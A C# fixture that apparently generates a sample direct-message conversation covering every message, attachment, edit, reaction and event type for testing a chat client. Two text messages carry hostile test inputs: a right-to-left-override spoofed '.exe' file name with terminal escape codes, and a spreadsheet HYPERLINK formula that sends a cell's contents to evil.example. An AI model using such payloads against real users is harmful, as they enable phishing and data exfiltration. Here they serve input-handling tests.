using TwitterDm.ChatProtocol;
using TwitterDm.ChatProtocol.Thrift;
using TwitterDm.ChatProtocol.Writing;
using TwitterDm.Sandbox.Chat.Events;
using TwitterDm.Sandbox.Model;

namespace TwitterDm.Sandbox.Chat.Samples;

/// <summary>A one-to-one conversation with every kind of message and entry.</summary>
internal static class EveryKindSample
{
    private const short FutureEntry = 99;
    private const short FutureEvent = 98;

    public static ConversationPlan With(Person account, Person other, int messages) =>
        OneToOneSamples.Plan(account, other, newestMinutes: 11, spanDays: 21) with
        {
            Steps = SampleSteps.With(
                messages,
                [
                    builder => builder.ChangeKey(other),
                    .. Texts(account, other),
                    .. Attachments(account, other),
                    .. Replies(account, other),
                    .. Changes(account, other),
                    .. Entries(account, other),
                    .. Events(account, other),
                ]),
        };

    private static IEnumerable<Action<ConversationBuilder>> Texts(Person account, Person other) =>
        [
            // The umlauts make offsets in bytes, in characters and in code points different.
            builder =>
                builder.Say(other, $"Grüße, @{account.Username}! Übersicht 📈: https://status.example.com/dashboard#today #betrieb"),
            builder => builder.Say(other, "The file is invoice\u202Efdp.exe \u001B[31mopen it\u001B[0m \u2067now\u2069\u0007"),
            builder => builder.Say(other, "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click me\")"),
            builder =>
                builder.Forward(account, "FYI, from the vendor: maintenance on Sunday, see https://vendor.example.com/notice #maintenance"),
        ];

    private static IEnumerable<Action<ConversationBuilder>> Attachments(Person account, Person other) =>
    [
        builder => builder.Attach(other, "The new rack", SampleAttachments.Photo),
        builder => builder.Attach(other, ChatText.Empty, SampleAttachments.AnimatedGif),
        builder => builder.Attach(account, "Listen to that fan", SampleAttachments.Clip),
        builder => builder.Attach(other, ChatText.Empty, SampleAttachments.VoiceNote),
        builder => builder.Attach(account, "As promised", SampleAttachments.Document),
        builder => builder.Attach(
            other,
            "https://blog.example.com/2026/postmortem",
            draw => SampleAttachments.Card(draw, "https://blog.example.com/2026/postmortem", "Postmortem: what the pager did not say")),
        builder => builder.Say(other, "Have you seen this one?", SampleAttachments.PostOf(SamplePosts.All[2])),
        builder => builder.Say(other, "Tickets are here:", ChatAttachments.UnifiedCard("https://tickets.example.com/17", "card-17")),
        builder => builder.Say(account, "", ChatAttachments.Money("Sent $12.00 for lunch")),
    ];

    private static IEnumerable<Action<ConversationBuilder>> Replies(Person account, Person other)
    {
        SentChatEvent? question = null;
        return
        [
            builder => question = builder.Say(other, "Shall we move the database on Friday?"),
            builder => builder.Reply(account, question!, "Not on a Friday, please."),
            builder => builder.Misquote(other, question!, "You said yes!", claimedText: "Yes, I agree to everything."),
            builder => builder.ReplyWithoutProof(account, question!, "Monday, then."),
        ];
    }

    private static IEnumerable<Action<ConversationBuilder>> Changes(Person account, Person other)
    {
        SentChatEvent? own = null;
        SentChatEvent? edit = null;
        SentChatEvent? theirs = null;
        SentChatEvent? mistake = null;
        return
        [
            builder => own = builder.Say(account, "The window is from 22:00 to 23:00."),
            builder => edit = builder.Edit(account, own!, "The window is from 22:00 to 24:00, see https://wiki.example.com/windows"),
            builder => builder.Reply(other, own!, "Thanks, noted.", edit),
            builder => builder.Edit(other, own!, "The window is open all night."),
            builder => theirs = builder.Say(other, "We open at 9."),
            builder => builder.React(account, theirs!, "\U0001F44D"),
            builder => builder.React(account, theirs!, "\u2764\uFE0F"),
            builder => builder.Unreact(account, theirs!, "\U0001F44D"),
            builder => mistake = builder.Say(other, "Wrong window, sorry."),
            builder => builder.Delete(other, forEveryone: true, mistake!),
            builder => builder.Delete(other, forEveryone: true, own!),
            builder => builder.Delete(account, forEveryone: false, theirs!),
        ];
    }

    private static IEnumerable<Action<ConversationBuilder>> Entries(Person account, Person other) =>
    [
        builder => builder.Send(other, ChatMiscellaneousEntries.CallStarted(isAudioOnly: false, "b-17")),
        builder => builder.Send(other, ChatMiscellaneousEntries.CallEnded(builder.Milliseconds, durationSeconds: 754, isAudioOnly: false)),
        builder => builder.Send(account, ChatMiscellaneousEntries.CallMissed(builder.Milliseconds, isAudioOnly: true)),
        builder => builder.Send(account, ChatMiscellaneousEntries.Nickname(other.IdText, "Zoë from networks")),
        builder => builder.Send(other, ChatMiscellaneousEntries.ScreenCapture(type: 1)),
        builder => builder.Send(account, ChatMiscellaneousEntries.Pin(builder.SignedId)),
        builder => builder.Send(account, ChatMiscellaneousEntries.Pin(builder.SignedId, isPinned: false)),
        builder => builder.Send(account, ChatMiscellaneousEntries.SetVerifiedStatus(other.IdText, isVerified: true)),
        builder => builder.Send(account, ChatMiscellaneousEntries.AcceptMessageRequest()),
        builder => builder.Send(account, ChatMiscellaneousEntries.Draft(builder.SignedId, "Not sent yet")),
        builder => builder.Send(other, ChatMiscellaneousEntries.MarkRead(builder.PreviousId, builder.Milliseconds)),
        builder => builder.Send(account, ChatMiscellaneousEntries.MarkUnread(builder.PreviousId)),
        builder => builder.Send(other, ChatEntries.Of(FutureEntry, new ThriftStruct().Add(1, "A kind of entry that does not exist yet"))),
    ];

    private static IEnumerable<Action<ConversationBuilder>> Events(Person account, Person other)
    {
        SentChatEvent? last = null;
        return
        [
            builder => builder.Add(other, ChatDetails.Typing(builder.SignedId)),
            builder => last = builder.Say(other, "Good night \U0001F319"),
            builder => builder.MarkRead(account, last!),
            builder => builder.Add(account, ChatDetails.MarkUnread(last!.IdText)),
            builder =>
                builder.Add(account, ChatDetails.ConversationDelete(builder.SignedId, clearsAllMessages: false, builder.Milliseconds)),
            builder => builder.Add(account, ChatDetails.Failure(ChatFailureType.RateLimitUpsell, rateLimitTier: 1)),
            builder => builder.Add(other, ChatDetails.GrokResponse("The window is from 22:00 to 24:00.")),
            builder =>
                builder.Add(other, ChatDetails.Of(FutureEvent, new ThriftStruct().Add(1, "A kind of event that does not exist yet"))),
        ];
    }
}
